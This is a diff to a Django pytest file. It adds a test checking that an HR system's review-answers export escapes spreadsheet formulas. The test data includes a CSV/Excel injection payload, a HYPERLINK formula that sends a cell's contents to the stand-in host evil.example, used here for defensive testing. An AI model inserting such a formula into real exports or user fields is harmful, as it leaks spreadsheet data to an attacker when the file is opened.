@@ -16,12 +16,15 @@ import pytest
 from django.urls import URLPattern, URLResolver, get_resolver, reverse
 from openpyxl import load_workbook
 
+from assessments.models import Assessment
+from assessments.reviews import services as review_services
 from capabilities.models import Capability, JobRole
 from plms.audit.services import audit_record
 from plms.common.spreadsheets import FORMULA_PREFIXES, spreadsheet_cell
 from plms.people.models import Department, Employee
 from plms.privacy import exports, services
 from tests.assessments.conftest import actor_of, closed_cycle, world  # noqa: F401 (fixture)
+from tests.assessments.factories import ReviewAnswerFactory
 from tests.conftest import in_org
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'
@@ -67,6 +70,9 @@ def _urls(hostile):
             for fmt in ("csv", "xlsx")
         ],
         "assessments:cycle_export": [reverse("assessments:cycle_export", args=[cycle.uuid])],
+        "assessments:cycle_answers_export": [
+            reverse("assessments:cycle_answers_export", args=[_answers_cycle(hostile).uuid])
+        ],
         "audit:event_export": [reverse("audit:event_export") + "?format=csv"],
         "privacy:export_download": [
             reverse("privacy:export_download", args=[_personal_data_export(hostile).uuid])
@@ -75,6 +81,39 @@ def _urls(hostile):
             f"/api/v1/personal-data-exports/{_personal_data_export(hostile).uuid}/download"
         ],
     }
+
+
+def _answers_cycle(hostile):
+    """A closed cycle whose template asks a question named like a formula, answered with one."""
+    with in_org(hostile.org):
+        template = review_services.review_template_create(
+            actor=hostile.system,
+            name="Formula template",
+            sections=[
+                {"kind": "capabilities", "rater_kinds": ["manager"]},
+                {
+                    "kind": "open",
+                    "rater_kinds": ["manager"],
+                    "required": False,
+                    "questions": [{"key": "q-formula", "text": NAMES["role"]}],
+                },
+            ],
+        )
+    cycle = closed_cycle(hostile, "Answers cycle", review_template=template)
+    with in_org(hostile.org):
+        assessment = Assessment.objects.get(
+            cycle=cycle,
+            employee=hostile.employee.employee,
+            kind="manager",
+            rater=hostile.manager.employee,
+        )
+        ReviewAnswerFactory(
+            organization=hostile.org,
+            assessment=assessment,
+            question_key="q-formula",
+            text=HYPERLINK,
+        )
+    return cycle
 
 
 def _personal_data_export(hostile):
@@ -159,6 +198,7 @@ def test_every_export_route_escapes_formulas(hostile_world, client):
             expected = {
                 "capabilities:export": (NAMES["capability"], NAMES["description"]),
                 "assessments:cycle_export": (NAMES["capability"], NAMES["person"]),
+                "assessments:cycle_answers_export": (NAMES["person"], NAMES["role"], HYPERLINK),
                 "audit:event_export": (NAMES["capability"], NAMES["person"]),
                 "privacy:export_download": (NAMES["person"],),
                 "api:personal-data-export-download": (NAMES["person"],),
